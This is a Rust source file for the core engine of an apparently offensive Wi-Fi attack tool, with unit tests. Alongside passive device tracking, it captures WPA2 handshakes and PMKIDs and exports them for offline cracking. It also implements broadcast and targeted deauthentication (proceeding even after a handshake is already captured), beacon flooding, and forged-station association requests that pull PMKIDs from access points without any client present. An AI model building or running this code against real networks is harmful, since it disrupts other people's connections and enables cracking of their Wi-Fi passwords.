//! The capture engine
//!
//! Owns every table (devices, handshakes, PMKIDs), the attack scheduler and
//! the radio. Frames are fed in from a single consumer, either one by one with
//! [`Engine::process`] or from the receive queue with [`Engine::drain`].

use std::sync::Arc;

use crossbeam_channel::Receiver;
use serde::Serialize;
use tracing::{debug, info, warn};

use crate::attack::{AttackCounters, AttackOutcome, AttackScheduler, FloodSummary};
use crate::clock::Clock;
use crate::config::AttackConfig;
use crate::eapol::{eapol_payload, EapolKey, KeyMessage, Message};
use crate::error::EngineError;
use crate::export::{self, ExportError};
use crate::forge::REASON_CLASS3_FROM_NONASSOC;
use crate::frame::{classify, FrameEvent, FrameKind, RxMeta};
use crate::handshake::{HandshakeId, HandshakeRecord, HandshakeTracker};
use crate::ie::{self, Encryption};
use crate::mac::MacAddr;
use crate::pmkid::{extract_pmkid, PmkidCapture, PmkidId, PmkidRecord, PmkidStore};
use crate::radio::{valid_channel, Radio, RxCounters, RxFrame, RxStats, MAX_CHANNEL, MIN_CHANNEL};
use crate::registry::{DeviceRecord, DeviceRegistry, Role};

/// Timestamp, beacon interval and capability info ahead of the IEs.
const BEACON_FIXED_LEN: usize = 12;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EngineEvent {
    NewDevice(MacAddr),
    SsidLearned { mac: MacAddr, ssid: String },
    Handshake { id: HandshakeId, message: Message },
    HandshakeComplete(HandshakeId),
    HandshakeFull(HandshakeId),
    PmkidCaptured(PmkidId),
    DeauthSeen {
        source: MacAddr,
        destination: MacAddr,
        reason: Option<u16>,
    },
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct FrameStats {
    pub total: u64,
    pub management: u64,
    pub beacons: u64,
    pub probes: u64,
    pub deauths: u64,
    pub data: u64,
    pub eapol: u64,
    /// Frames that failed classification.
    pub ignored: u64,
    pub queue_dropped: u64,
}

#[derive(Debug, Clone, Serialize)]
pub struct Summary {
    pub channel: u8,
    pub flood_active: bool,
    pub stats: FrameStats,
    pub rx: Option<RxStats>,
    pub attacks: AttackCounters,
    pub devices: Vec<DeviceRecord>,
    pub handshakes: Vec<HandshakeRecord>,
    pub pmkids: Vec<PmkidRecord>,
}

pub struct Engine<R: Radio> {
    radio: R,
    clock: Arc<dyn Clock>,
    registry: DeviceRegistry,
    handshakes: HandshakeTracker,
    pmkids: PmkidStore,
    scheduler: AttackScheduler,
    stats: FrameStats,
    rx_counters: Option<Arc<RxCounters>>,
    channel: u8,
    forged_station: MacAddr,
}

impl<R: Radio> Engine<R> {
    pub fn new(radio: R, attack: AttackConfig, clock: Arc<dyn Clock>) -> Self {
        Self {
            radio,
            clock,
            registry: DeviceRegistry::new(),
            handshakes: HandshakeTracker::new(),
            pmkids: PmkidStore::new(),
            scheduler: AttackScheduler::new(attack),
            stats: FrameStats::default(),
            rx_counters: None,
            channel: MIN_CHANNEL,
            forged_station: MacAddr::random_local(&mut rand::thread_rng()),
        }
    }

    /// Reports queue drops from these counters in [`Engine::summary`].
    pub fn with_rx_counters(mut self, counters: Arc<RxCounters>) -> Self {
        self.rx_counters = Some(counters);
        self
    }

    pub fn radio(&self) -> &R {
        &self.radio
    }

    pub fn radio_mut(&mut self) -> &mut R {
        &mut self.radio
    }

    // ---- receive path ----

    /// Processes every frame currently waiting in the queue.
    pub fn drain(&mut self, rx: &Receiver<RxFrame>) -> Vec<EngineEvent> {
        let mut events = Vec::new();
        while let Ok(frame) = rx.try_recv() {
            let meta = RxMeta {
                rssi: frame.rssi,
                channel: frame.channel,
            };
            events.extend(self.process(&frame.data, meta));
        }
        events
    }

    /// Classifies one frame and routes it to the registry, tracker and PMKID store.
    pub fn process(&mut self, buf: &[u8], meta: RxMeta) -> Vec<EngineEvent> {
        let mut events = Vec::new();
        self.stats.total += 1;

        let Some(event) = classify(buf, meta) else {
            self.stats.ignored += 1;
            return events;
        };
        let now = self.clock.now_ms();

        match event.kind {
            FrameKind::Beacon | FrameKind::ProbeResponse => {
                self.stats.management += 1;
                if event.kind == FrameKind::Beacon {
                    self.stats.beacons += 1;
                } else {
                    self.stats.probes += 1;
                }
                self.on_access_point(&event, now, &mut events);
            }
            FrameKind::ProbeRequest => {
                self.stats.management += 1;
                self.stats.probes += 1;
                self.observe(&event, Role::Prober, None, now, &mut events);
            }
            FrameKind::Deauthentication | FrameKind::Disassociation => {
                self.stats.management += 1;
                self.stats.deauths += 1;
                self.observe(&event, Role::Other, None, now, &mut events);
                let reason = event.body.get(..2).map(|r| u16::from_le_bytes([r[0], r[1]]));
                debug!(
                    "{:?} {} -> {} reason {:?}",
                    event.kind,
                    event.source(),
                    event.destination(),
                    reason
                );
                events.push(EngineEvent::DeauthSeen {
                    source: event.source(),
                    destination: event.destination(),
                    reason,
                });
            }
            FrameKind::Management(_) => {
                self.stats.management += 1;
                self.observe(&event, Role::Other, None, now, &mut events);
            }
            FrameKind::Data(_) => {
                self.stats.data += 1;
                self.observe(&event, Role::Data, None, now, &mut events);
                if !event.header.frame_control.protected() {
                    self.on_data(&event, &mut events);
                }
            }
        }
        events
    }

    fn observe(
        &mut self,
        event: &FrameEvent<'_>,
        role: Role,
        ssid: Option<&str>,
        now: u64,
        events: &mut Vec<EngineEvent>,
    ) -> MacAddr {
        let mac = event.source();
        let known = self.registry.get(&mac).map(|r| r.ssid.is_empty());
        self.registry.observe(mac, event.rssi, event.channel, role, ssid, now);
        match known {
            None => events.push(EngineEvent::NewDevice(mac)),
            Some(true) => {
                if let Some(ssid) = ssid.filter(|s| !s.is_empty()) {
                    events.push(EngineEvent::SsidLearned {
                        mac,
                        ssid: ssid.to_string(),
                    });
                    self.handshakes.backfill_ssid(mac, ssid);
                }
            }
            Some(false) => {}
        }
        mac
    }

    fn on_access_point(&mut self, event: &FrameEvent<'_>, now: u64, events: &mut Vec<EngineEvent>) {
        let Some(fixed) = event.body.get(..BEACON_FIXED_LEN) else {
            self.observe(event, Role::AccessPoint, None, now, events);
            return;
        };
        let capability = u16::from_le_bytes([fixed[10], fixed[11]]);
        let ies = &event.body[BEACON_FIXED_LEN..];
        let ssid = ie::extract_ssid(ies);
        let encryption = ie::classify_with_capability(ies, capability);
        let advertised = ie::ds_channel(ies).filter(|c| valid_channel(*c));

        let mac = self.observe(event, Role::AccessPoint, Some(&ssid), now, events);
        if let Some(record) = self.registry.get_mut(&mac) {
            record.encryption = encryption;
            if advertised.is_some() {
                record.advertised_channel = advertised;
            }
        }
    }

    fn on_data(&mut self, event: &FrameEvent<'_>, events: &mut Vec<EngineEvent>) {
        let Some(eapol) = eapol_payload(event.body) else {
            return;
        };
        self.stats.eapol += 1;
        let Some(key) = EapolKey::parse(eapol) else {
            debug!("Malformed EAPOL from {}", event.source());
            return;
        };
        let Some(msg) = KeyMessage::resolve(event, key) else {
            debug!("Unrecognised EAPOL-Key from {}", event.source());
            return;
        };

        let ssid = self.registry.ssid_of(&msg.ap).to_string();
        let update = self.handshakes.record(&msg, event.channel, &ssid);
        events.push(EngineEvent::Handshake {
            id: update.id,
            message: update.message,
        });
        if update.became_complete {
            events.push(EngineEvent::HandshakeComplete(update.id));
        }
        if update.became_full {
            events.push(EngineEvent::HandshakeFull(update.id));
        }

        if msg.message == Message::M1 {
            if let Some(pmkid) = extract_pmkid(msg.key.key_data) {
                let capture = PmkidCapture {
                    ap: msg.ap,
                    station: msg.client,
                    pmkid,
                    ssid,
                    channel: event.channel,
                    rssi: event.rssi,
                    clientless: msg.client == self.forged_station,
                };
                if let Some(id) = self.pmkids.insert(capture) {
                    events.push(EngineEvent::PmkidCaptured(id));
                }
            }
        }
    }

    // ---- radio control ----

    pub fn channel(&self) -> u8 {
        self.channel
    }

    pub fn set_channel(&mut self, channel: u8) -> Result<(), EngineError> {
        if !valid_channel(channel) {
            return Err(EngineError::InvalidChannel(channel));
        }
        self.radio.set_channel(channel)?;
        self.channel = channel;
        Ok(())
    }

    /// Moves to the next channel, wrapping 13 -> 1. Does nothing while a
    /// beacon flood holds the radio.
    pub fn hop_channel(&mut self) -> Result<Option<u8>, EngineError> {
        if self.scheduler.flood_active() {
            return Ok(None);
        }
        let next = if self.channel >= MAX_CHANNEL {
            MIN_CHANNEL
        } else {
            self.channel + 1
        };
        self.set_channel(next)?;
        debug!("Hopped to channel {}", next);
        Ok(Some(next))
    }

    // ---- attacks ----

    pub fn send_deauth_broadcast(&mut self, ap: MacAddr) -> Result<AttackOutcome, EngineError> {
        let now = self.clock.now_ms();
        self.scheduler
            .deauth_broadcast(&mut self.radio, ap, REASON_CLASS3_FROM_NONASSOC, now)
    }

    pub fn send_deauth_unicast(
        &mut self,
        target: MacAddr,
        ap: MacAddr,
    ) -> Result<AttackOutcome, EngineError> {
        if self.handshakes.find(target, ap).is_some_and(|r| r.is_complete()) {
            warn!("Handshake for {} / {} already captured, deauthing anyway", target, ap);
        }
        let now = self.clock.now_ms();
        self.scheduler
            .deauth_unicast(&mut self.radio, target, ap, REASON_CLASS3_FROM_NONASSOC, now)
    }

    pub fn start_beacon_flood(&mut self, channel: u8, ssids: Vec<String>) -> Result<(), EngineError> {
        let now = self.clock.now_ms();
        self.scheduler.start_flood(&mut self.radio, channel, ssids, now)?;
        self.channel = channel;
        Ok(())
    }

    pub fn stop_beacon_flood(&mut self) -> Result<Option<FloodSummary>, EngineError> {
        let now = self.clock.now_ms();
        self.scheduler.stop_flood(&mut self.radio, now)
    }

    pub fn beacon_flood_active(&self) -> bool {
        self.scheduler.flood_active()
    }

    /// Drives time-based attack work. Call regularly from the processing loop.
    pub fn tick(&mut self) -> Result<usize, EngineError> {
        let now = self.clock.now_ms();
        self.scheduler.tick(&mut self.radio, now)
    }

    /// Solicits an M1 (and with it a PMKID) from `ap` using the forged station
    /// address. An empty `ssid` falls back to the one seen in beacons.
    pub fn send_association_request(
        &mut self,
        ap: MacAddr,
        ssid: &str,
    ) -> Result<AttackOutcome, EngineError> {
        let ssid = if ssid.is_empty() {
            self.registry.ssid_of(&ap).to_string()
        } else {
            ssid.to_string()
        };
        let now = self.clock.now_ms();
        self.scheduler
            .association_request(&mut self.radio, ap, self.forged_station, &ssid, now)
    }

    /// WPA2 access points that have no PMKID yet, strongest first.
    pub fn clientless_targets(&self) -> Vec<DeviceRecord> {
        let mut targets: Vec<DeviceRecord> = self
            .registry
            .iter()
            .filter(|d| d.is_ap && d.encryption == Encryption::Wpa2)
            .filter(|d| !self.pmkids.has_ap(d.mac))
            .cloned()
            .collect();
        targets.sort_by(|a, b| b.rssi_max.cmp(&a.rssi_max).then(a.mac.cmp(&b.mac)));
        targets
    }

    pub fn forged_station(&self) -> MacAddr {
        self.forged_station
    }

    pub fn rotate_forged_station(&mut self) -> MacAddr {
        self.forged_station = MacAddr::random_local(&mut rand::thread_rng());
        info!("Forged station address is now {}", self.forged_station);
        self.forged_station
    }

    // ---- read API ----

    pub fn devices(&self) -> Vec<DeviceRecord> {
        self.registry.snapshot()
    }

    pub fn device(&self, mac: &MacAddr) -> Option<&DeviceRecord> {
        self.registry.get(mac)
    }

    pub fn handshakes(&self) -> Vec<HandshakeRecord> {
        self.handshakes.snapshot()
    }

    pub fn handshake(&self, id: HandshakeId) -> Option<&HandshakeRecord> {
        self.handshakes.get(id)
    }

    /// PMKID records, with SSIDs learned after capture filled in from the registry.
    pub fn pmkids(&self) -> Vec<PmkidRecord> {
        self.pmkids.iter().map(|r| self.with_known_ssid(r)).collect()
    }

    pub fn pmkid(&self, id: PmkidId) -> Option<PmkidRecord> {
        self.pmkids.get(id).map(|r| self.with_known_ssid(r))
    }

    fn with_known_ssid(&self, record: &PmkidRecord) -> PmkidRecord {
        let mut record = record.clone();
        if record.ssid.is_empty() {
            record.ssid = self.registry.ssid_of(&record.ap).to_string();
        }
        record
    }

    pub fn stats(&self) -> FrameStats {
        let mut stats = self.stats;
        if let Some(rx) = &self.rx_counters {
            stats.queue_dropped = rx.snapshot().dropped;
        }
        stats
    }

    pub fn summary(&self) -> Summary {
        Summary {
            channel: self.channel,
            flood_active: self.scheduler.flood_active(),
            stats: self.stats(),
            rx: self.rx_counters.as_ref().map(|c| c.snapshot()),
            attacks: self.scheduler.counters(),
            devices: self.devices(),
            handshakes: self.handshakes(),
            pmkids: self.pmkids(),
        }
    }

    // ---- export ----

    pub fn export_handshake(&self, id: HandshakeId) -> Result<String, ExportError> {
        let record = self
            .handshakes
            .get(id)
            .ok_or(ExportError::UnknownHandshake(id))?;
        export::handshake_line(record)
    }

    pub fn export_pmkid(&self, id: PmkidId) -> Result<String, ExportError> {
        let record = self.pmkid(id).ok_or(ExportError::UnknownPmkid(id))?;
        export::pmkid_line(&record)
    }

    /// Every line that can be rendered: PMKIDs first, then exportable handshakes.
    pub fn export_all(&self) -> Vec<String> {
        let pmkids = self
            .pmkids
            .iter()
            .filter_map(|r| export::pmkid_line(&self.with_known_ssid(r)).ok());
        let handshakes = self
            .handshakes
            .iter()
            .filter(|r| r.is_exportable())
            .filter_map(|r| export::handshake_line(r).ok());
        pmkids.chain(handshakes).collect()
    }

    /// Clears all tables and counters. A running flood keeps running.
    pub fn reset(&mut self) {
        self.registry.clear();
        self.handshakes.clear();
        self.pmkids.clear();
        self.scheduler.reset();
        self.stats = FrameStats::default();
        info!("Engine state cleared");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::ManualClock;
    use crate::radio::RadioError;

    #[derive(Default)]
    struct NullRadio {
        channel: u8,
        sent: usize,
    }

    impl Radio for NullRadio {
        fn set_promiscuous(&mut self, _enabled: bool) -> Result<(), RadioError> {
            Ok(())
        }

        fn set_channel(&mut self, channel: u8) -> Result<(), RadioError> {
            self.channel = channel;
            Ok(())
        }

        fn transmit_raw(&mut self, _frame: &[u8]) -> Result<(), RadioError> {
            self.sent += 1;
            Ok(())
        }
    }

    fn engine() -> Engine<NullRadio> {
        Engine::new(
            NullRadio::default(),
            AttackConfig::default(),
            Arc::new(ManualClock::new(0)),
        )
    }

    fn beacon(bssid: [u8; 6], ies: &[u8], capability: u16) -> Vec<u8> {
        let mut buf = vec![0x80, 0x00, 0, 0];
        buf.extend_from_slice(&[0xff; 6]);
        buf.extend_from_slice(&bssid);
        buf.extend_from_slice(&bssid);
        buf.extend_from_slice(&[0, 0]);
        buf.extend_from_slice(&[0u8; 8]);
        buf.extend_from_slice(&[0x64, 0x00]);
        buf.extend_from_slice(&capability.to_le_bytes());
        buf.extend_from_slice(ies);
        buf
    }

    const META: RxMeta = RxMeta { rssi: -40, channel: 6 };
    const BSSID: [u8; 6] = [0x10, 0x22, 0x33, 0x44, 0x55, 0x66];

    #[test]
    fn test_beacon_registers_ap() {
        let mut engine = engine();
        let ies = [0x00, 0x03, b'l', b'a', b'b', 0x30, 0x02, 0x01, 0x00];
        let events = engine.process(&beacon(BSSID, &ies, 0x0011), META);
        assert_eq!(events, vec![EngineEvent::NewDevice(MacAddr(BSSID))]);

        let dev = engine.device(&MacAddr(BSSID)).unwrap();
        assert!(dev.is_ap);
        assert_eq!(dev.ssid, "lab");
        assert_eq!(dev.encryption, Encryption::Wpa2);
        assert_eq!(engine.stats().beacons, 1);
        assert_eq!(engine.clientless_targets().len(), 1);
    }

    #[test]
    fn test_hidden_then_named_ssid() {
        let mut engine = engine();
        engine.process(&beacon(BSSID, &[0x00, 0x00], 0x0001), META);
        let events = engine.process(&beacon(BSSID, &[0x00, 0x01, b'x'], 0x0001), META);
        assert_eq!(
            events,
            vec![EngineEvent::SsidLearned {
                mac: MacAddr(BSSID),
                ssid: "x".into()
            }]
        );
        let events = engine.process(&beacon(BSSID, &[0x00, 0x00], 0x0001), META);
        assert!(events.is_empty());
        assert_eq!(engine.device(&MacAddr(BSSID)).unwrap().ssid, "x");
    }

    #[test]
    fn test_ds_parameter_channel_wins_over_overlap() {
        let mut engine = engine();
        let ies = [0x00, 0x03, b'l', b'a', b'b', 0x03, 0x01, 0x06, 0x30, 0x02, 0x01, 0x00];
        engine.process(&beacon(BSSID, &ies, 0x0011), META);
        engine.process(&beacon(BSSID, &ies, 0x0011), RxMeta { rssi: -80, channel: 5 });

        let dev = engine.device(&MacAddr(BSSID)).unwrap();
        assert_eq!(dev.channels, vec![6, 5]);
        assert_eq!(dev.last_channel(), Some(5));
        assert_eq!(dev.advertised_channel, Some(6));
        assert_eq!(engine.clientless_targets()[0].operating_channel(), Some(6));
    }

    #[test]
    fn test_wep_from_privacy_bit() {
        let mut engine = engine();
        engine.process(&beacon(BSSID, &[0x00, 0x01, b'w'], 0x0011), META);
        assert_eq!(engine.device(&MacAddr(BSSID)).unwrap().encryption, Encryption::Wep);
        assert!(engine.clientless_targets().is_empty());
    }

    #[test]
    fn test_garbage_counted_as_ignored() {
        let mut engine = engine();
        assert!(engine.process(&[0x80, 0x00, 0x01], META).is_empty());
        assert!(engine.process(&[0xd4; 30], META).is_empty());
        let stats = engine.stats();
        assert_eq!(stats.total, 2);
        assert_eq!(stats.ignored, 2);
        assert!(engine.devices().is_empty());
    }

    #[test]
    fn test_hop_wraps() {
        let mut engine = engine();
        engine.set_channel(13).unwrap();
        assert_eq!(engine.hop_channel().unwrap(), Some(1));
        assert_eq!(engine.radio().channel, 1);
        assert!(matches!(engine.set_channel(0), Err(EngineError::InvalidChannel(0))));

        engine.start_beacon_flood(6, vec!["a".into()]).unwrap();
        assert_eq!(engine.hop_channel().unwrap(), None);
        assert_eq!(engine.channel(), 6);
    }

    #[test]
    fn test_export_unknown_ids() {
        let engine = engine();
        assert_eq!(
            engine.export_handshake(HandshakeId(0)),
            Err(ExportError::UnknownHandshake(HandshakeId(0)))
        );
        assert_eq!(
            engine.export_pmkid(PmkidId(2)),
            Err(ExportError::UnknownPmkid(PmkidId(2)))
        );
        assert!(engine.export_all().is_empty());
    }

    #[test]
    fn test_reset_clears_tables() {
        let mut engine = engine();
        engine.process(&beacon(BSSID, &[0x00, 0x01, b'x'], 0x0001), META);
        engine.reset();
        assert!(engine.devices().is_empty());
        assert_eq!(engine.stats().total, 0);
    }

    #[test]
    fn test_rotate_forged_station() {
        let mut engine = engine();
        let before = engine.forged_station();
        assert!(before.is_locally_administered());
        let after = engine.rotate_forged_station();
        assert!(after.is_locally_administered());
        assert_eq!(engine.forged_station(), after);
    }
}
